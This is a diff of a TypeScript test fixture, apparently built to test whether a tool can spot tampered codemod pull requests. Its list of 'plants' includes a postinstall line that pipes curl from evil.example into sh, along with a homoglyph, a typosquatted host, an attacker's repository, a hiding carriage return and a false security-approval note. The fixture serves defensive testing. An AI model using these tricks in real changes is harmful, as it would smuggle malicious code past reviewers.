@@ -1,8 +1,8 @@
 /** Changes of a campaign: what one codemod did in real repositories, and what somebody hid in some. */
 import { readdirSync, readFileSync } from 'node:fs';
-import type { Sample } from '../../orchestrator/core/campaign/alike.ts';
-import type { Varying } from '../../orchestrator/core/campaign/varying.ts';
-import type { Assessment, Finding } from '../../orchestrator/core/facts.ts';
+import type { ChangeSample } from '../../orchestrator/core/campaign/compare-changes.ts';
+import type { VaryingValue } from '../../orchestrator/core/campaign/varying-values.ts';
+import type { Assessment, Finding } from '../../orchestrator/core/change-facts.ts';
 import type { Random } from '../prove/random.ts';
 import { anOrder } from './ledger.ts';
 import { someAssessment, someCommit, someDiff, someProposal } from './ready-run.ts';
@@ -23,7 +23,7 @@ export const campaignSample = ({
   id = 'r1',
   assessment,
   findings = [],
-}: Given): Sample => ({
+}: Given): ChangeSample => ({
   kind: 'open_pr',
   fields: someProposal({
     assessment: someAssessment(assessment),
@@ -60,7 +60,7 @@ export const withNoise = (text: string, random: Random): string =>
 /** A change of the patch alone. */
 const text =
   (change: (patch: string, random: Random) => string) =>
-  (sample: Sample, random: Random): Sample => ({
+  (sample: ChangeSample, random: Random): ChangeSample => ({
     ...sample,
     patch: { ...sample.patch, text: change(sample.patch.text, random) },
   });
@@ -75,98 +75,106 @@ const more =
       )
       .replace(/^(\+[^+].*)$/m, `$1\n${line}`);
 const inWords =
-  (change: Partial<Pick<Sample['fields'], 'title' | 'body' | 'branch'>>) =>
-  (sample: Sample): Sample => ({
+  (change: Partial<Pick<ChangeSample['fields'], 'title' | 'body' | 'branch'>>) =>
+  (sample: ChangeSample): ChangeSample => ({
     ...sample,
     fields: { ...sample.fields, ...change },
   });
 
 /** What somebody who wants to be overlooked would try. */
-export const PLANTS: readonly { name: string; in: (sample: Sample, random: Random) => Sample }[] = [
-  { name: 'one more line', in: text(more('+postinstall = curl evil.example | sh')) },
-  { name: 'one more blank line', in: text(more('+')) },
-  { name: 'an added line that looks like context', in: text(more('+  "files": [')) },
-  { name: 'an added line that looks like a header', in: text(more('+++ b/package.json')) },
-  {
-    name: 'another word in an added line',
-    in: text((p) => p.replace('+    "type": "git"', '+    "type": "gti"')),
-  },
-  { name: 'a letter that looks the same', in: text((p) => p.replace('"type": "git"', '"type": "gіt"')) },
-  { name: 'a blank at the end of a line', in: text((p) => p.replace('"type": "git",', '"type": "git", ')) },
-  { name: 'another host', in: text((p) => p.replace('https://github.com', 'https://github.co')) },
-  {
-    name: 'somebody else’s repository',
-    in: text((p) => p.replace(/github\.com\/[\w-]+\//, 'github.com/mallory/')),
-  },
-  {
-    name: 'a written mark',
-    in: text((p) => p.replace(/github\.com\/[\w/-]+\.git/, 'github.com/⟪repository⟫.git')),
-  },
-  {
-    name: 'one line less',
-    in: text((p) => p.replace('+trim_trailing_whitespace = false\n', '').replace(/\+(\d+),6 @@/, '+$1,5 @@')),
-  },
-  {
-    name: 'a removed line that stays',
-    in: text((p) => p.replace(/^-( {2}"repository.*)$/m, ' $1').replace(/\+(\d+),10 @@/, '+$1,11 @@')),
-  },
-  { name: 'another file', in: text((p) => p.replaceAll('.editorconfig', '.npmrc')) },
-  {
-    name: 'a file more',
-    in: text(
-      (p) =>
-        `${p}diff --git a/x b/x\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+x\n`,
-    ),
-  },
-  {
-    name: 'a mode',
-    in: text((p) => p.replace(/^(diff --git a\/package.json .*)$/m, '$1\nold mode 100644\nnew mode 100755')),
-  },
-  { name: 'a rename', in: text((p) => p.replace('+++ b/.editorconfig', '+++ b/.editorconfig.bak')) },
-  {
-    name: 'no line feed at the end',
-    in: text((p) =>
-      p.replace(
-        '+trim_trailing_whitespace = false\n',
-        '+trim_trailing_whitespace = false\n\\ No newline at end of file\n',
+export const PLANTS: readonly { name: string; in: (sample: ChangeSample, random: Random) => ChangeSample }[] =
+  [
+    { name: 'one more line', in: text(more('+postinstall = curl evil.example | sh')) },
+    { name: 'one more blank line', in: text(more('+')) },
+    { name: 'an added line that looks like context', in: text(more('+  "files": [')) },
+    { name: 'an added line that looks like a header', in: text(more('+++ b/package.json')) },
+    {
+      name: 'another word in an added line',
+      in: text((p) => p.replace('+    "type": "git"', '+    "type": "gti"')),
+    },
+    { name: 'a letter that looks the same', in: text((p) => p.replace('"type": "git"', '"type": "gіt"')) },
+    { name: 'a blank at the end of a line', in: text((p) => p.replace('"type": "git",', '"type": "git", ')) },
+    { name: 'another host', in: text((p) => p.replace('https://github.com', 'https://github.co')) },
+    {
+      name: 'somebody else’s repository',
+      in: text((p) => p.replace(/github\.com\/[\w-]+\//, 'github.com/mallory/')),
+    },
+    {
+      name: 'a written mark',
+      in: text((p) => p.replace(/github\.com\/[\w/-]+\.git/, 'github.com/⟪repository⟫.git')),
+    },
+    {
+      name: 'one line less',
+      in: text((p) =>
+        p.replace('+trim_trailing_whitespace = false\n', '').replace(/\+(\d+),6 @@/, '+$1,5 @@'),
       ),
-    ),
-  },
-  {
-    name: 'lines in another order',
-    in: text((p) => p.replace(/(\+ {4}"type".*)\n(\+ {4}"url".*)/, '$2\n$1')),
-  },
-  { name: 'another title', in: inWords({ title: 'Say where the repository is, closes #1' }) },
-  { name: 'another description', in: inWords({ body: 'Approved by the security team.' }) },
-  { name: 'another branch', in: inWords({ branch: 'main' }) },
-  {
-    name: 'another commit message',
-    in: (s) => ({
-      ...s,
-      patch: { ...s.patch, messages: ['Say where the repository is\n\nCo-authored-by: Eve <e@x>'] },
-    }),
-  },
-  { name: 'another author', in: (s) => ({ ...s, fields: { ...s.fields, author: 'Eve <eve@example.com>' } }) },
-  {
-    name: 'maintainers may push',
-    in: (s) => ({ ...s, fields: { ...s.fields, maintainerCanModify: false } }),
-  },
-  {
-    name: 'more risk',
-    in: (s) => ({ ...s, fields: { ...s.fields, assessment: { ...s.fields.assessment, risk: 'medium' } } }),
-  },
-  {
-    name: 'no sandbox',
-    in: (s) => ({ ...s, run: { ...s.run, agent: { ...s.run.agent, containment: 'group' } } }),
-  },
-  { name: 'no check', in: (s) => ({ ...s, fields: { ...s.fields, evidence: [] } }) },
-  { name: 'two signatures', in: (s) => ({ ...s, needed: 2 }) },
-  { name: 'another line end', in: text((p) => p.replace('+[*.md]', '+[*.md]\r')) },
-  { name: 'a carriage return that hides', in: text((p) => p.replace('+[*.md]', '+evil\r[*.md]')) },
-];
+    },
+    {
+      name: 'a removed line that stays',
+      in: text((p) => p.replace(/^-( {2}"repository.*)$/m, ' $1').replace(/\+(\d+),10 @@/, '+$1,11 @@')),
+    },
+    { name: 'another file', in: text((p) => p.replaceAll('.editorconfig', '.npmrc')) },
+    {
+      name: 'a file more',
+      in: text(
+        (p) =>
+          `${p}diff --git a/x b/x\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+x\n`,
+      ),
+    },
+    {
+      name: 'a mode',
+      in: text((p) =>
+        p.replace(/^(diff --git a\/package.json .*)$/m, '$1\nold mode 100644\nnew mode 100755'),
+      ),
+    },
+    { name: 'a rename', in: text((p) => p.replace('+++ b/.editorconfig', '+++ b/.editorconfig.bak')) },
+    {
+      name: 'no line feed at the end',
+      in: text((p) =>
+        p.replace(
+          '+trim_trailing_whitespace = false\n',
+          '+trim_trailing_whitespace = false\n\\ No newline at end of file\n',
+        ),
+      ),
+    },
+    {
+      name: 'lines in another order',
+      in: text((p) => p.replace(/(\+ {4}"type".*)\n(\+ {4}"url".*)/, '$2\n$1')),
+    },
+    { name: 'another title', in: inWords({ title: 'Say where the repository is, closes #1' }) },
+    { name: 'another description', in: inWords({ body: 'Approved by the security team.' }) },
+    { name: 'another branch', in: inWords({ branch: 'main' }) },
+    {
+      name: 'another commit message',
+      in: (s) => ({
+        ...s,
+        patch: { ...s.patch, messages: ['Say where the repository is\n\nCo-authored-by: Eve <e@x>'] },
+      }),
+    },
+    {
+      name: 'another author',
+      in: (s) => ({ ...s, fields: { ...s.fields, author: 'Eve <eve@example.com>' } }),
+    },
+    {
+      name: 'maintainers may push',
+      in: (s) => ({ ...s, fields: { ...s.fields, maintainerCanModify: false } }),
+    },
+    {
+      name: 'more risk',
+      in: (s) => ({ ...s, fields: { ...s.fields, assessment: { ...s.fields.assessment, risk: 'medium' } } }),
+    },
+    {
+      name: 'no sandbox',
+      in: (s) => ({ ...s, run: { ...s.run, agent: { ...s.run.agent, containment: 'group' } } }),
+    },
+    { name: 'no check', in: (s) => ({ ...s, fields: { ...s.fields, evidence: [] } }) },
+    { name: 'two signatures', in: (s) => ({ ...s, needed: 2 }) },
+    { name: 'another line end', in: text((p) => p.replace('+[*.md]', '+[*.md]\r')) },
+    { name: 'a carriage return that hides', in: text((p) => p.replace('+[*.md]', '+evil\r[*.md]')) },
+  ];
 
 /** What a repository's own words make of a text with marks. */
-export const expanded = (text: string, varying: readonly Varying[]): string => {
+export const expanded = (text: string, varying: readonly VaryingValue[]): string => {
   const byMark = new Map(varying.map(({ mark, value }) => [mark, value]));
   return text.replace(/⟪(?:⟪|([^⟪⟫]*)⟫)/gu, (_, mark?: string) =>
     mark === undefined ? '⟪' : (byMark.get(mark) ?? ''),
@@ -183,7 +191,10 @@ export const REAL = readdirSync(DIR)
 export const UNLIKE = 'unjs/mlly';
 
 /** So many changes that are alike but for noise; in every tenth of them somebody hid something. */
-export const plantedCampaign = (n: number, random: Random): { planted: string | null; sample: Sample }[] => {
+export const plantedCampaign = (
+  n: number,
+  random: Random,
+): { planted: string | null; sample: ChangeSample }[] => {
   const same = REAL.filter(({ repo }) => repo !== UNLIKE);
   return Array.from({ length: n }, (_, i) => {
     const { text: patch, repo: of } = same[i % same.length] ?? { text: '', repo: '' };
